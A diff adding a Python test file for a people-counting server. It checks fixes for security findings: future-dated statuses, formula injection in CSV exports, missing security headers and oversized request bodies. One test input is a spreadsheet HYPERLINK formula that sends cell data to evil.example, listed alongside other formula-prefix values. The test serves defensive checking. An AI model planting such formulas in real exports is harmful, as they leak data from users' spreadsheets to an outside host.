@@ -1,0 +1,86 @@
+"""Issue #15's smaller findings, each attacked as reported: a status from 2099, a formula in a zone name,
+pages without security headers."""
+
+from __future__ import annotations
+
+import csv as csvlib
+import io
+from datetime import UTC, datetime, timedelta
+
+from tests.server.conftest import Server, aggregate
+
+
+def status(sent_at: datetime, state: str = "online") -> dict:
+    return {
+        "kind": "status",
+        "agent_id": "agent-1",
+        "site_id": "mall",
+        "state": state,
+        "sent_at": sent_at.isoformat().replace("+00:00", "Z"),
+    }
+
+
+def test_a_status_from_the_future_cannot_pin_an_agents_state(sqlite_server: Server) -> None:
+    response = sqlite_server.ingest(status(datetime(2099, 1, 1, tzinfo=UTC)))
+    assert response.status_code == 422
+    assert "sent_at: 2099-01-01T00:00:00+00:00 is in the future" in response.json()["rejected"][0]["reason"]
+    now = datetime.now(UTC)
+    assert sqlite_server.ingest(status(now - timedelta(seconds=5), "offline")).status_code == 200
+    assert sqlite_server.ingest(status(now)).status_code == 200
+    (agent,) = sqlite_server.get("/api/v1/agents").json()
+    assert agent["state"] == "online"  # the real, latest status won
+
+
+def test_a_zone_name_is_never_exported_as_a_spreadsheet_formula(sqlite_server: Server) -> None:
+    sqlite_server.ingest(aggregate(zone="p", female=6, male=6))
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    for name in (formula, "+1+1", "-2", "@SUM(A1)", "Food court"):
+        response = sqlite_server.client.put(
+            "/api/v1/sites/mall/zones/p", json={"name": name}, headers=sqlite_server.headers("admin")
+        )
+        assert response.status_code == 200, response.text
+        text = sqlite_server.get(
+            "/api/v1/sites/mall/traffic/export.csv",
+            start="2026-11-15T00:00:00Z",
+            end="2026-11-17T00:00:00Z",
+            granularity="day",
+        ).text
+        cell = list(csvlib.reader(io.StringIO(text)))[1][2]
+        assert cell in (name, "'" + name) and not cell.startswith(("=", "+", "-", "@")), cell
+
+
+def test_pages_and_api_responses_carry_security_headers(sqlite_server: Server) -> None:
+    for path in ("/dashboard/", "/dashboard/zone", "/dashboard/static/js/pages/overview.js"):
+        response = sqlite_server.client.get(path)
+        assert response.status_code == 200, path
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["X-Frame-Options"] == "DENY"
+        csp = response.headers["Content-Security-Policy"]
+        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
+    api = sqlite_server.get("/api/v1/sites")
+    assert api.headers["X-Content-Type-Options"] == "nosniff" and api.headers["Referrer-Policy"] == "no-referrer"
+
+
+def test_an_oversized_body_is_refused_without_being_read_whole(sqlite_server: Server) -> None:
+    """A 300 MiB POST raised server memory from 199 to 756 MiB before its 413: the limit now holds as the
+    body streams in (and at once when Content-Length declares it)."""
+    import asyncio
+
+    from footfall.server.api.ingest import MAX_BODY_BYTES, _read_bounded
+    from starlette.requests import Request
+
+    pulled: list[int] = []
+
+    async def receive() -> dict:  # what the ASGI server hands the app: 300 chunks of 1 MiB, on demand
+        pulled.append(1)
+        return {"type": "http.request", "body": b" " * (1 << 20), "more_body": len(pulled) < 300}
+
+    request = Request({"type": "http", "method": "POST", "headers": []}, receive)
+    assert asyncio.run(_read_bounded(request, MAX_BODY_BYTES)) is None
+    assert len(pulled) == MAX_BODY_BYTES // (1 << 20) + 1, f"{len(pulled)} MiB were read before the refusal"
+
+    headers = {**sqlite_server.headers("agent"), "Content-Type": "application/json"}
+    declared = sqlite_server.client.post(
+        "/api/v1/ingest", content=b"[]", headers={**headers, "Content-Length": str(300 << 20)}
+    )
+    assert declared.status_code == 413 and "larger than 8 MiB" in declared.json()["detail"]
